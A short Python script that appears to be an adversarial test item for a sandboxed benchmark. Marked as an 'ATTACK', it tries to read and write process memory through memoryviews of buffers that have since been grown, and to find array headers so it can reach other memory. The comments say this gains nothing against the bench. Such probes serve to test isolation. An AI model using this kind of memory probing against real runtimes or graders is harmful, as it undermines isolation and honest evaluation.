# Tries: a board program that reads and writes its process through views of arrays that have grown since, and through an object that it finds there.
# Ends: what the process knows earns nothing: inputs and seeds are with the bench, and every record is checked.
### ATTACK
import array
import gc


def grown(make, more):
    data = make()
    view = memoryview(data)
    wall = [bytearray(1) for _ in range(4)]
    for _ in range(64):
        data.extend(more)
    return data, view, wall


for make, more in (
    (lambda: bytearray(16), b"x" * 64),
    (lambda: array.array("I", [0] * 4), array.array("I", [1] * 16)),
    (lambda: array.array("B", bytes(32)), b"y" * 64),
):
    try:
        data, view, wall = grown(make, more)
        gc.collect()
        found = [bytearray(b"marker") for _ in range(200)]
        for other in found:
            if bytes(view)[:6] == b"marker":
                view[0] ^= 1
                print("seen")
                break
        # An array is four words: type, kind and room, length, address. Ask for other memory.
        words = bytes(view)
        for place in range(0, len(words) - 8, 4):
            if int.from_bytes(words[place : place + 4], "little") == 6:
                print("found", words.hex())
    except (TypeError, ValueError, BufferError, MemoryError):
        pass
view = found = words = None
### END
### BASE
